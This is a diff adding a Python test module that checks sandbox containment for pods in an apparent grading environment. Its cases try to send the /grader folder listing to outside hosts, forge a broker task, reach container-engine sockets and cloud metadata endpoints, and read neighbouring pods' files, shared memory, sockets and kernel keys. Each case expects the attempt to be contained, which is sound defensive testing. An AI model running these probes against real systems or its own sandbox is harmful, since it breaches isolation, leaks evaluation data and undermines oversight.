@@ -1,0 +1,264 @@
+"""N: the network, other people's pods and files, the machine below."""
+
+import contextlib
+import socket
+import threading
+import time
+from collections.abc import Iterator, Mapping
+
+import psutil
+
+from tests.corpus.case import Observed, Procedure
+from tests.corpus.parts_containment import CALL, CONTAINED, Attempt, drilled, neighbour
+from tests.corpus.world import World
+
+_HOST = "@HOST@"
+_NAME = "@NAME@"
+
+
+@contextlib.contextmanager
+def _listening(_: World) -> Iterator[Mapping[str, str]]:
+    """A service on every address of this machine, which answers as Redis does."""
+
+    def serve() -> None:
+        with contextlib.suppress(OSError):
+            while True:
+                connection, _ = server.accept()
+                with connection:
+                    connection.sendall(b"+PONG\r\n")
+
+    with socket.create_server(("", 0)) as server:
+        threading.Thread(target=serve, daemon=True).start()
+        port = server.getsockname()[1]
+        found = {one.address for each in psutil.net_if_addrs().values() for one in each if one.family == socket.AF_INET}
+        yield {_HOST: repr([(address, port) for address in sorted(found | {"127.0.0.1", "172.17.0.1"})])}
+        server.shutdown(socket.SHUT_RDWR)
+
+
+def _beside(script: str) -> object:
+    """Somebody else's pod beside the attempt."""
+
+    @contextlib.contextmanager
+    def around(world: World) -> Iterator[Mapping[str, str]]:
+        with neighbour(world, script):
+            yield {}
+
+    return around
+
+
+@contextlib.contextmanager
+def _file_beside(world: World) -> Iterator[Mapping[str, str]]:
+    """Somebody else's run, with a file in its scratch whose name is known."""
+    name = f"corpus-{time.time_ns():x}"
+    with drilled(world, f"/workspace/{name}"):
+        yield {_NAME: name}
+
+
+def _residue(world: World) -> Observed:
+    """Somebody leaves something wherever a pod can write; the next one looks for it."""
+    places = ("/workspace", "/tmp", "/dev/shm", "/dev/mqueue", "/var/tmp", "/run/lock")
+    leave = f"""
+    for place in {places}:
+        try:
+            open(f"{{place}}/corpus-left-behind", "w").close()
+        except OSError as error:
+            print(place, error)
+    """
+    look = f"""
+    got = [place for place in {places} if os.path.exists(f"{{place}}/corpus-left-behind")]
+    """
+    left = Attempt(leave)(world)
+    return Attempt(look)(world) if left.code == CONTAINED else left
+
+
+CASES = (
+    Procedure(
+        id="N01-send-out",
+        title="the held-out images' folder is sent to a machine outside",
+        play=Attempt(
+            """
+            import socket
+
+
+            def send(address):
+                with socket.create_connection(address, timeout=1.0) as connection:
+                    connection.sendall(" ".join(os.listdir("/grader")).encode())
+                return True
+
+
+            for address in @HOST@:
+                attempt(f"sent to {address}", lambda: send(address))
+            """,
+            around=_listening,
+        ),
+        codes=(CONTAINED,),
+        quick=True,
+    ),
+    Procedure(
+        id="N02-broker",
+        title="a task of its own for the broker",
+        play=Attempt(
+            """
+            import socket
+
+
+            def push(address):
+                with socket.create_connection(address, timeout=1.0) as connection:
+                    connection.sendall(b"LPUSH live forged\\r\\n")
+                    return connection.recv(10)
+
+
+            for address in @HOST@:
+                attempt(f"{address} answers", lambda: push(address))
+            """,
+            around=_listening,
+        ),
+        codes=(CONTAINED,),
+    ),
+    Procedure(
+        id="N02-second-link",
+        title="a second conversation with the host over the pod's own socket",
+        play=Attempt(
+            """
+            import socket
+
+
+            def connect(path):
+                with socket.socket(socket.AF_UNIX) as connection:
+                    connection.settimeout(1.0)
+                    connection.connect(path)
+                return True
+
+
+            attempt("the link", lambda: connect("/grader/link/host.sock"))
+            for folder, _, names in os.walk("/grader/link"):
+                for name in names:
+                    attempt(name, lambda: connect(f"{folder}/{name}"))
+            """
+        ),
+        codes=(CONTAINED,),
+        quick=True,
+    ),
+    Procedure(
+        id="N03-control-sockets",
+        title="the engine's socket, other services' sockets and the cloud's metadata",
+        play=Attempt(
+            """
+            import socket, stat
+
+
+            def connect(path):
+                with socket.socket(socket.AF_UNIX) as connection:
+                    connection.settimeout(1.0)
+                    connection.connect(path)
+                return True
+
+
+            known = ["/var/run/docker.sock", "/run/containerd/containerd.sock", "/run/podman/podman.sock"]
+            for folder, _, names in os.walk("/"):
+                if folder.startswith(("/proc", "/sys")):
+                    continue
+                for name in names:
+                    try:
+                        if stat.S_ISSOCK(os.lstat(f"{folder}/{name}").st_mode):
+                            known.append(f"{folder}/{name}")
+                    except OSError:
+                        pass
+            for path in known:
+                attempt(path, lambda: connect(path))
+            for address in ("169.254.169.254", "169.254.170.2", "100.100.100.200"):
+                attempt(address, lambda: socket.create_connection((address, 80), timeout=1.0))
+            """
+        ),
+        codes=(CONTAINED,),
+    ),
+    Procedure(
+        id="N03-vsock",
+        title="a socket to the hypervisor, which no network namespace holds",
+        play=Attempt(
+            """
+            import socket
+
+
+            def listen():
+                with socket.socket(socket.AF_VSOCK, socket.SOCK_STREAM) as server:
+                    server.bind((socket.VMADDR_CID_ANY, 50_007))
+                return True
+
+
+            attempt("a VSOCK port of this machine", listen)
+            """
+        ),
+        codes=(CONTAINED,),
+    ),
+    Procedure(
+        id="N04-other-run",
+        title="a file in the scratch of a run that goes on beside it",
+        play=Attempt(
+            """
+            for folder, _, names in os.walk("/"):
+                if "@NAME@" in names:
+                    got.append(f"{folder}/@NAME@")
+            for process in filter(str.isdigit, os.listdir("/proc")):
+                attempt(f"process {process}", lambda: os.path.exists(f"/proc/{process}/root/workspace/@NAME@"))
+            """,
+            around=_file_beside,
+        ),
+        codes=(CONTAINED,),
+    ),
+    Procedure(id="N04-residue", title="what an earlier pod left in any folder", play=_residue, codes=(CONTAINED,)),
+    Procedure(
+        id="N06-shared-memory",
+        title="shared memory of System V that another pod made",
+        play=Attempt(
+            CALL
+            + """
+attempt("the neighbour's memory", lambda: call(31, call(29, 0x6752, 64, 0), 0, 0) == 0)
+""",
+            around=_beside("call(29, 0x6752, 64, 0o1666)"),
+        ),
+        codes=(CONTAINED,),
+        quick=True,
+    ),
+    Procedure(
+        id="N06-abstract-socket",
+        title="another pod's socket with an abstract name",
+        play=Attempt(
+            r"""
+            import socket
+
+
+            def connect():
+                with socket.socket(socket.AF_UNIX) as connection:
+                    connection.settimeout(1.0)
+                    connection.connect("\0corpus-neighbour")
+                return True
+
+
+            attempt("the neighbour", connect)
+            """,
+            around=_beside(
+                r"""
+                import socket
+
+                server = socket.socket(socket.AF_UNIX)
+                server.bind("\0corpus-neighbour")
+                server.listen()
+                """
+            ),
+        ),
+        codes=(CONTAINED,),
+    ),
+    Procedure(
+        id="N06-keys",
+        title="a key that another pod of the same user put into the kernel's key ring",
+        play=Attempt(
+            CALL
+            + """
+attempt("the neighbour's key", lambda: call(250, 10, -4, b"user", b"corpus", 0) > 0)
+""",
+            around=_beside("""attempt("left", lambda: call(248, b"user", b"corpus", b"secret", 6, -4))"""),
+        ),
+        codes=(CONTAINED,),
+    ),
+)
